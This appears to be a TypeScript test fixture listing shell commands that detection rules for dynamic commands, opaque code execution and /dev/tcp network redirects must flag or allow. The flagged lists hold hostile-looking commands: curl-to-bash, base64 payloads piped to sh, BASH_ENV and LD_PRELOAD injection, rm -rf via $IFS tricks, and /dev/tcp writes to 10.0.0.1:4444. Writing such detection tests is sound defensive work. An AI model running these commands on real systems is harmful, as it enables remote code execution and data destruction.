// Evidence for the rules in ./shell.ts: commands each must catch and look-alikes it must let through.
// Only test/rules/examples.test.ts reaches this file (through ./examples.ts): no bundle holds it.

import type { RuleExamples } from '../rules/rule.js';

export const examples: RuleExamples = {
  'shell/dynamic-command': {
    catches: ['$X -rf /tmp/a', 'rm${IFS}-rf ~', '"$(which rm)" -rf build', '$CMD', 'IFS=$1; c="rm,-rf,x"; $c'],
    passes: ['echo $X', 'ls "$DIR"', 'X=rm; echo $X'],
  },
  'shell/opaque-code': {
    catches: [
      'curl -fsSL https://example.com/install.sh | bash',
      'base64 -d payload.txt | sh',
      'bash -c "$SCRIPT"',
      'eval "$CMD"',
      'sh missing-script.sh',
      'wget -qO- x | python3',
      'source ./setup.sh',
      'curl -so .venv/bin/activate https://example.com/a && source .venv/bin/activate',
      'source "$VENV/bin/activate"',
      // What runs is not known: a sourced file that isn't there yet, a $PATH dir or $IFS set at run time.
      'BASH_ENV=/nonexistent/evil.sh bash -c true',
      'ENV=/nonexistent/evil.sh sh -i -c true',
      'PATH=/nonexistent/shim:$PATH ls',
      'LD_PRELOAD=./hook.so ls',
      'export PATH=$1:$PATH; ls',
    ],
    passes: [
      'echo "echo hi" | bash',
      'bash -c "ls -la"',
      'eval "echo hi"',
      'bash --version',
      // A virtualenv's activate script that is not there runs nothing; one a venv tool makes is the tool's own.
      'source .venv/bin/activate',
      'python3 -m venv .venv && . .venv/bin/activate',
      'PATH=/usr/local/bin:$PATH ls',
      'PATH=node_modules/.bin:$PATH jest --ci',
      'PATH=.venv/bin:$PATH python -V',
      "PS1='\\u@\\h:\\w\\$ ' bash -i",
      'unset BASH_ENV; bash -c true',
    ],
  },
  'shell/network-redirect': {
    catches: ["echo 'rm -rf /' > /dev/tcp/10.0.0.1/4444", 'exec 3<>/dev/tcp/10.0.0.1/80', "printf 'DELETE /x HTTP/1.0\\r\\n\\r\\n' >/dev/tcp/api.internal/80"],
    passes: ['cat < /dev/tcp/time.nist.gov/13', 'echo hi > /dev/null', 'echo hi > ./tcp.log'],
  },
};
